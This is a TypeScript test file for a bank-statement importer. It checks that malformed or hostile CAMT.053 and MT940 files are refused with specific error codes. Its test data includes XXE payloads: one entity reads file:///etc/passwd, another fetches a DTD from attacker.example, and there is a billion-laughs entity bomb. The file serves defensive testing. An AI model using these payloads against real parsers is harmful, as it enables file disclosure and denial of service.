import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readBankFile } from '../../src-main/features/imports/formats/index.ts';
import { camt053 } from '../../src-main/features/imports/formats/camt053.ts';
import { mt940 } from '../../src-main/features/imports/formats/mt940.ts';
import { readContext, type SourceFile } from '../../src-main/features/imports/sourceFile.ts';

const folder = join(import.meta.dirname, '../fixtures/bank');
const sample = (name: string): string => readFileSync(join(folder, name), 'utf8');
const camt = sample('camt053-02-batch-and-return.xml');
const ing = sample('mt940-ing.940');
const file = (text: string | Uint8Array): SourceFile => ({
  name: 'afschrift.txt',
  bytes: typeof text === 'string' ? Buffer.from(text, 'utf8') : text,
});

/** Reads, within two seconds, and answers the codes of the refusal. */
function refusal(source: SourceFile, read: typeof readBankFile): readonly string[] {
  const start = performance.now();
  const result = read(source, readContext);
  expect(performance.now() - start).toBeLessThan(2000);
  if (result.ok) return [];
  for (const { where } of result.error) expect(where?.file).toBe('afschrift.txt');
  return result.error.map(({ code }) => code);
}

const megabytes = 50;

describe('hostile and broken bank files are refused in words', () => {
  it.each([
    ['an external entity', '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    [
      'an entity bomb',
      `<!DOCTYPE Document [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'
        .split('')
        .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index] ?? ''};`.repeat(10)}">`)
        .join('')}]>`,
    ],
    ['a parameter entity', '<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'],
  ])('%s', (_name, doctype) => {
    const text = camt.replace('<Document', `${doctype}<Document`).replace('Fictief Bouw', '&x;');
    expect(refusal(file(text), readBankFile)).toEqual(['xml-doctype']);
    expect(refusal(file(Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le')), readBankFile)).toEqual(['xml-doctype']);
  });

  it('an entity that nobody declared', () => {
    expect(refusal(file(camt.replace('Fictief Bouw', '&x;')), readBankFile)).toEqual(['xml-malformed']);
  });

  it('XML that stops halfway, at any place, gives no half statement', () => {
    for (let length = 200; length < camt.length - 12; length += 97) {
      expect(refusal(file(camt.slice(0, length)), camt053.parse)).toEqual(['xml-malformed']);
    }
  });

  it('elements nested a million deep', () => {
    const deep = camt.replace('<Ustrd>', `<Ustrd>${'<a>'.repeat(1_000_000)}`);
    expect(refusal(file(deep), readBankFile)).toEqual(['xml-too-deep']);
  });

  it('a text of fifty megabytes', () => {
    const long = camt.replace('Factuur 2026-0041', 'x'.repeat(megabytes * 1_000_000));
    expect(refusal(file(long), readBankFile)).toEqual(['file-field-too-long']);
  });

  it('a single line of fifty megabytes', () => {
    expect(refusal(file(`:20:X\n:25:Y\n:60F:C260101EUR1,00\n:86:${'x'.repeat(megabytes * 1_000_000)}`), readBankFile)).toEqual([
      'file-line-too-long',
    ]);
    expect(refusal(file('x'.repeat(megabytes * 1_000_000)), readBankFile)).toEqual(['format-unknown']);
  });

  it('a description of many lines beyond all bounds', () => {
    const long = ing.replace('EMI/USTD//Betaling', `EMI/USTD//${'regel van het afschrift\n'.repeat(5000)}`);
    expect(refusal(file(long), readBankFile)).toEqual(['file-field-too-long']);
  });

  it('nothing, blanks, NUL bytes, a picture, an archive, a file too large', () => {
    expect(refusal(file(''), readBankFile)).toEqual(['file-empty']);
    expect(refusal(file(' \r\n \t'), readBankFile)).toEqual(['format-unknown']);
    expect(refusal(file(new Uint8Array(1000)), readBankFile)).toEqual(['file-binary']);
    expect(refusal(file(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')), readBankFile)).toEqual(['file-binary']);
    expect(refusal(file(Buffer.from('504b030414000000', 'hex')), readBankFile)).toEqual(['zip-invalid']);
    expect(refusal(file(new Uint8Array(100_000_001).fill(32)), readBankFile)).toEqual(['file-too-large']);
  });

  it('MT940 that stops inside a line before its closing balance', () => {
    const end = ing.indexOf(':62F:');
    for (let length = ing.indexOf(':61:'); length < end; length += 1) {
      const cut = ing.slice(0, length);
      const isLineEnd = cut.includes(':61:') && /[\r\n]$/.test(cut);
      expect(refusal(file(cut), mt940.parse)).toEqual(isLineEnd ? [] : ['file-truncated']);
    }
  });

  it('MT940 without a closing balance keeps its bookings and says what is missing, unless it stops in a booking', () => {
    const whole = ing.slice(0, ing.indexOf(':62F:'));
    const read = mt940.parse(file(whole), readContext);
    const all = mt940.parse(file(ing), readContext);
    if (!read.ok || !all.ok) throw new Error('refused');
    expect(read.value.statements.map(({ entries }) => entries.map(({ amount }) => amount))).toEqual(all.value.statements.map(({ entries }) => entries.map(({ amount }) => amount)));
    expect(read.value.statements.map(({ closing, balanced, difference }) => [closing, balanced, difference])).toEqual([[null, null, null]]);
    expect(read.value.problems).toMatchObject([{ code: 'bank-closing-missing', severity: 'warning' }]);
    expect(refusal(file(whole.trimEnd()), mt940.parse)).toEqual(['file-truncated']);
    // Without any booking nothing is left to keep.
    expect(refusal(file(ing.slice(0, ing.indexOf(':61:'))), mt940.parse)).toEqual(['file-truncated']);
  });

  it('a statement without a statement', () => {
    expect(refusal(file(':20:X\n:25:NL39VRBD0000000101\n:28C:1\n'), readBankFile)).toEqual(['bank-no-statement']);
    expect(refusal(file('<Document><BkToCstmrStmt><GrpHdr/></BkToCstmrStmt></Document>'), readBankFile)).toEqual(['bank-no-statement']);
  });
});

describe('a single unreadable booking', () => {
  it('is named with its place, keeps the others, and the difference shows', () => {
    const result = readBankFile(file(camt.replace('>310.50<', '>310,50<')), readContext);
    if (!result.ok) throw new Error('refused');
    expect(result.value.problems.map(({ code, severity, where }) => ({ code, severity, path: where?.path }))).toContainEqual({
      code: 'bank-amount-unreadable',
      severity: 'error',
      path: 'Stmt[1]/Ntry[2]',
    });
    expect(result.value.statements[0]?.entries).toHaveLength(3);
    expect(result.value.statements[0]?.difference).toBe(31050);
  });

  it('is named with its line in MT940', () => {
    const result = readBankFile(file(ing.replace('D5,5NCHG', 'DvijfNCHG')), readContext);
    if (!result.ok) throw new Error('refused');
    expect(result.value.problems.map(({ code, where }) => [code, where?.line])).toContainEqual(['bank-entry-unreadable', 23]);
    expect(result.value.statements[0]?.balanced).toBe(false);
  });

  it('never rounds: a third decimal that is not zero makes an amount unreadable', () => {
    const result = readBankFile(file(camt.replace('>310.50<', '>310.505<')), readContext);
    expect(result.ok && result.value.problems.some(({ code }) => code === 'bank-amount-unreadable')).toBe(true);
  });

  it('reads a stray minus sign as the opposite, and says so', () => {
    const result = readBankFile(file(ing.replace('D5,5NCHG', 'D-5,5NCHG')), readContext);
    if (!result.ok) throw new Error('refused');
    expect(result.value.statements[0]?.entries.at(-1)?.amount).toBe(550);
    expect(result.value.problems.map(({ code }) => code)).toContain('bank-stray-minus');
  });
});
